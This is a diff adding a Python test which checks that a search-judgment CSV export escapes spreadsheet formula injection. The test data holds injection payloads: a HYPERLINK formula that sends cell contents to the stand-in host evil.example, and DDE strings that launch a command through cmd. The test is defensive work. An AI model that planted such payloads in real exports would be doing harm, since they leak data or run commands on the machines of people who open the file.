@@ -3,6 +3,8 @@ the CSV pagesift eval reads, and the web app's timed copy."""
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime
 from pathlib import Path
 
@@ -101,3 +103,20 @@ def test_the_console_judgments_are_the_csv_pagesift_eval_reads(tmp_path: Path) -
     path.write_text(judging.to_csv(stored), encoding="utf-8")
     assert load_csv(path) == judging.judged(stored)
 
+
+
+# Queries are what readers typed: any of them may start like a spreadsheet formula.
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"budget\")", "+1+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted", "plain budget"]
+
+
+def test_the_judgments_csv_runs_no_formula_in_a_spreadsheet_and_reads_back_the_same(tmp_path: Path) -> None:
+    stored = [Judgment(q, f"https://x.org/{n}", 2) for n, q in enumerate(FORMULAS)]
+    stored.append(Judgment("budget", "=cmd|' /C calc'!A0", 1))
+    text = judging.to_csv(stored)
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], text
+    assert "'=HYPERLINK(" in text and "'-2+3" in text and "''=already quoted" in text
+    path = tmp_path / "judgments.csv"
+    path.write_text(text, encoding="utf-8")
+    assert load_csv(path) == judging.judged(stored)  # pagesift eval reads the queries as typed
